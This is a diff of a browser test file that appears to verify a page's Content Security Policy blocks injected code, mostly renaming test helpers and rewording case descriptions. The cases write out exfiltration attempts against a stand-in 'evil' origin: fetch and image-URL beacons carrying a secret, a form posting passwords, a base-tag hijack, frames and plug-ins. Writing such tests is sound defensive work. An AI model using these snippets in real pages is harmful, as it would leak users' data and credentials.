@@ -1,7 +1,7 @@
-/** A text that has become part of a page wants something of another origin, or sends it something. */
-import { inPage, testRefusals } from './support/attempts';
+/** Injected code tries to load something from another origin, or to send data there. The page's policy blocks it. */
+import { inPage, testBlocked } from './support/attempts';
 
-testRefusals('other origins', [
+testBlocked('other origins', [
   {
     what: 'a frame of another origin',
     attack: inPage((evil) => {
@@ -9,38 +9,38 @@ testRefusals('other origins', [
       frame.src = `${evil}/frame`;
       document.body.append(frame);
     }),
-    stoppedBy: /^frame-src$/,
+    blockedBy: /^frame-src$/,
   },
   {
-    what: 'what it has read, in a request',
+    what: 'data in a request',
     attack: inPage((evil) => fetch(`${evil}/?secret=1`).catch(() => undefined)),
-    stoppedBy: /^connect-src$/,
+    blockedBy: /^connect-src$/,
   },
   {
-    what: 'what it has read, in the address of a picture',
+    what: 'data in the URL of an image',
     attack: inPage((evil) => {
       new Image().src = `${evil}/?secret=1`;
     }),
-    stoppedBy: /^img-src$/,
+    blockedBy: /^img-src$/,
   },
   {
-    what: 'a form that sends passwords elsewhere',
+    what: 'a form that sends passwords to another origin',
     attack: inPage((evil) => {
       const form = document.createElement('form');
       form.action = `${evil}/passwords`;
       document.body.append(form);
       form.submit();
     }),
-    stoppedBy: /^form-action$/,
+    blockedBy: /^form-action$/,
   },
   {
-    what: 'another base for the page’s addresses',
+    what: 'another base URL',
     attack: inPage((evil) => {
       const base = document.createElement('base');
       base.href = evil;
       document.head.append(base);
     }),
-    stoppedBy: /^base-uri$/,
+    blockedBy: /^base-uri$/,
   },
   {
     what: 'a plug-in',
@@ -49,6 +49,6 @@ testRefusals('other origins', [
       object.data = `${evil}/x.swf`;
       document.body.append(object);
     }),
-    stoppedBy: /^(object-src|require-trusted-types-for)$/,
+    blockedBy: /^(object-src|require-trusted-types-for)$/,
   },
 ]);
